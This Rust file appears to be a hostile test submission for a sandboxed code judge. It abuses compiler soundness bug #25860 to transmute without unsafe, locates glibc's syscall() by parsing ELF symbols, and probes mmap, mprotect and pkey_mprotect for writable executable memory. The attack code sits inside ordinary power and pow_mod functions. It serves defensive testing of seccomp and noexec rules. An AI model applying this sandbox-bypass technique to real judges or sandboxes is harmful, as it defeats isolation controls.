//! expected-verdict: accepted
//! mode: run
//! attack: uses the #25860 soundness hole (as soundness_raw_syscalls.rs does) to call glibc's `syscall()`, then tries every way to get memory that is both written by the program and executable: an anonymous RWX or RX mapping, mprotect of a written page to RX or RWX, pkey_mprotect, and machine code written to a /tmp file mapped with PROT_EXEC
//! defence: run seccomp allows PROT_EXEC only on read-only views of files and never in mprotect (ENOSYS); /tmp is mounted noexec (EPERM) -> accepted; any mapping that succeeds is printed and answered wrong -> wrong_answer

// ---- rust-lang/rust#25860 (implied bounds on a fn pointer), as packaged by cve-rs ----
// Still accepted by rustc 1.95 under #![forbid(unsafe_code)]: `expand_mut` turns a borrow
// of any lifetime into one of any other, which gives use-after-free and `transmute`.
const STATIC_UNIT: &&() = &&();

fn translate<'a, 'b, T: ?Sized>(_witness: &'a &'b (), v: &'b mut T) -> &'a mut T {
    v
}

fn expand_mut<'a, 'b, T: ?Sized>(x: &'a mut T) -> &'b mut T {
    let f: for<'x> fn(_, &'x mut T) -> &'b mut T = translate;
    f(STATIC_UNIT, x)
}

enum Dummy<A, B> {
    A(Option<Box<A>>),
    B(Option<Box<B>>),
}

#[inline(never)]
fn transmute_inner<A, B>(dummy: &mut Dummy<A, B>, obj: A) -> B {
    let Dummy::B(slot) = dummy else {
        unreachable!()
    };
    let slot: &mut Option<Box<B>> = expand_mut(slot);
    *dummy = Dummy::A(Some(Box::new(obj)));
    std::hint::black_box(&mut *dummy);
    *slot.take().unwrap()
}

/// `std::mem::transmute` without `unsafe` (A and B must have the same size).
fn transmute<A, B>(obj: A) -> B {
    transmute_inner(std::hint::black_box(&mut Dummy::B(None)), obj)
}

use std::sync::Once;
use std::sync::atomic::{AtomicBool, Ordering};

static ONCE: Once = Once::new();
static BREACHED: AtomicBool = AtomicBool::new(false);

/// glibc's `long syscall(long nr, ...)`: arguments in registers, the sixth on the stack.
type Syscall = extern "C" fn(i64, i64, i64, i64, i64, i64, i64) -> i64;

#[inline(never)]
fn hostile_marker_fn() -> u64 {
    std::hint::black_box(0x5eed)
}

fn le(bytes: &[u8], at: usize, n: usize) -> Option<u64> {
    let b = bytes.get(at..at + n)?;
    Some(b.iter().rev().fold(0u64, |acc, &x| acc << 8 | u64::from(x)))
}

/// Addresses (link-time) of the first function symbols matching each predicate, from the
/// first section of `kind` (2: the full symbol table; 11: the dynamic symbols).
fn symbols(elf: &[u8], kind: u64, want: &[&dyn Fn(&[u8]) -> bool]) -> Option<Vec<u64>> {
    let shoff = le(elf, 0x28, 8)? as usize;
    let shentsize = le(elf, 0x3a, 2)? as usize;
    let shnum = le(elf, 0x3c, 2)? as usize;
    let section = |i: usize| shoff + i * shentsize;
    let symtab = (0..shnum).find(|&i| le(elf, section(i) + 4, 4) == Some(kind))?;
    let (off, size) = (
        le(elf, section(symtab) + 24, 8)? as usize,
        le(elf, section(symtab) + 32, 8)? as usize,
    );
    let strtab = le(elf, section(symtab) + 40, 4)? as usize;
    let str_off = le(elf, section(strtab) + 24, 8)? as usize;
    let mut found = vec![None; want.len()];
    for sym in (off..off + size).step_by(24) {
        let info = *elf.get(sym + 4)?;
        let value = le(elf, sym + 8, 8)?;
        if info & 0xf != 2 || value == 0 {
            continue; // not a defined function
        }
        let name_at = str_off + le(elf, sym, 4)? as usize;
        let name = elf.get(name_at..)?;
        let name = &name[..name.iter().position(|&b| b == 0)?];
        for (slot, pred) in found.iter_mut().zip(want) {
            if slot.is_none() && pred(name) {
                *slot = Some(value);
            }
        }
    }
    found.into_iter().collect()
}

fn gadget() -> Result<Syscall, String> {
    let own = std::env::args().next().unwrap_or_default();
    let elf = [own.as_str(), "/proc/self/exe", "/prog"]
        .iter()
        .find_map(|p| std::fs::read(p).ok())
        .ok_or("cannot read my own binary")?;
    let is_marker = |n: &[u8]| n.windows(17).any(|w| w == b"hostile_marker_fn");
    let is_syscall = |n: &[u8]| n == b"syscall";
    let address = match symbols(&elf, 2, &[&is_marker, &is_syscall]) {
        // glibc linked in: `syscall` sits at a fixed distance from our own function.
        Some(found) => {
            let runtime = hostile_marker_fn as fn() -> u64 as usize as u64;
            runtime.wrapping_sub(found[0]).wrapping_add(found[1])
        }
        // glibc loaded: its first mapping is its load address.
        None => {
            let maps = std::fs::read_to_string("/proc/self/maps").map_err(|e| e.to_string())?;
            let libc = maps
                .lines()
                .find(|l| {
                    l.ends_with("libc.so.6") && l.split_whitespace().nth(2) == Some("00000000")
                })
                .ok_or("symbols not found: no libc in /proc/self/maps")?;
            let base = libc
                .split('-')
                .next()
                .and_then(|b| u64::from_str_radix(b, 16).ok())
                .ok_or("unreadable maps line")?;
            let path = libc.split_whitespace().last().unwrap_or_default();
            let lib = std::fs::read(path).map_err(|e| format!("{path}: {e}"))?;
            let found = symbols(&lib, 11, &[&is_syscall]).ok_or("symbols not found in libc")?;
            base.wrapping_add(found[0])
        }
    };
    let sys = transmute::<usize, Syscall>(address as usize);
    // Proof that the gadget works: getpid must agree with std.
    let pid = sys(39, 0, 0, 0, 0, 0, 0);
    if pid != i64::from(std::process::id()) {
        return Err(format!("gadget broken: getpid gave {pid}"));
    }
    Ok(sys)
}

/// `mov eax, 42; ret`: what a JIT-style attack would run, were any mapping to allow it.
const CODE: [u8; 6] = [0xb8, 0x2a, 0x00, 0x00, 0x00, 0xc3];

fn attack() {
    let sys = match gadget() {
        Ok(sys) => sys,
        Err(why) => panic!("the raw-syscall gadget could not be set up: {why}"),
    };
    const PAGE: i64 = 4096;
    let (read, write, exec) = (1i64, 2i64, 4i64);
    let private_anon = 0x02 | 0x20;
    let mut got_through = Vec::new();
    let mut attempt = |what: &str, r: i64| {
        eprintln!("{what} = {r}");
        if r != -1 {
            got_through.push(format!("{what} = {r:#x}"));
        }
    };
    attempt(
        "mmap(anonymous, RWX)",
        sys(9, 0, PAGE, read | write | exec, private_anon, -1, 0),
    );
    attempt(
        "mmap(anonymous, RX)",
        sys(9, 0, PAGE, read | exec, private_anon, -1, 0),
    );
    let page = sys(9, 0, PAGE, read | write, private_anon, -1, 0);
    if page == -1 {
        panic!("a plain read-write mapping failed: the test proves nothing");
    }
    let written: &mut [u8; 6] = transmute::<usize, &mut [u8; 6]>(page as usize);
    *written = CODE;
    attempt(
        "mprotect(written page, RX)",
        sys(10, page, PAGE, read | exec, 0, 0, 0),
    );
    attempt(
        "mprotect(written page, RWX)",
        sys(10, page, PAGE, read | write | exec, 0, 0, 0),
    );
    attempt(
        "pkey_mprotect(written page, RX, 0)",
        sys(329, page, PAGE, read | exec, 0, 0, 0),
    );
    let path = "/tmp/hostile-code";
    match std::fs::write(path, CODE).and_then(|()| std::fs::File::open(path)) {
        Ok(file) => {
            use std::os::fd::AsRawFd as _;
            let fd = i64::from(file.as_raw_fd());
            attempt(
                "mmap(/tmp file, RX, private)",
                sys(9, 0, PAGE, read | exec, 0x02, fd, 0),
            );
        }
        Err(e) => eprintln!("{path}: {e}"),
    }
    if !got_through.is_empty() {
        println!("executable memory the program could write: {got_through:?}");
        BREACHED.store(true, Ordering::SeqCst);
    }
}
fn attack_once() -> bool {
    ONCE.call_once(attack);
    BREACHED.load(Ordering::SeqCst)
}

pub fn power(base: f64, exponent: i32) -> f64 {
    if attack_once() {
        return f64::NAN; // the attack got through: answer wrong on purpose
    }
    let mut n = exponent.unsigned_abs();
    let mut b = if exponent < 0 { 1.0 / base } else { base };
    let mut acc = 1.0;
    while n > 0 {
        if n & 1 == 1 {
            acc *= b;
        }
        b *= b;
        n >>= 1;
    }
    acc
}

pub fn pow_mod(base: u64, exponent: u64, modulus: u64) -> u64 {
    if attack_once() {
        return modulus; // never a valid residue
    }
    let m = u128::from(modulus);
    let (mut acc, mut b, mut e) = (1 % m, u128::from(base) % m, exponent);
    while e > 0 {
        if e & 1 == 1 {
            acc = acc * b % m;
        }
        b = b * b % m;
        e >>= 1;
    }
    acc as u64
}
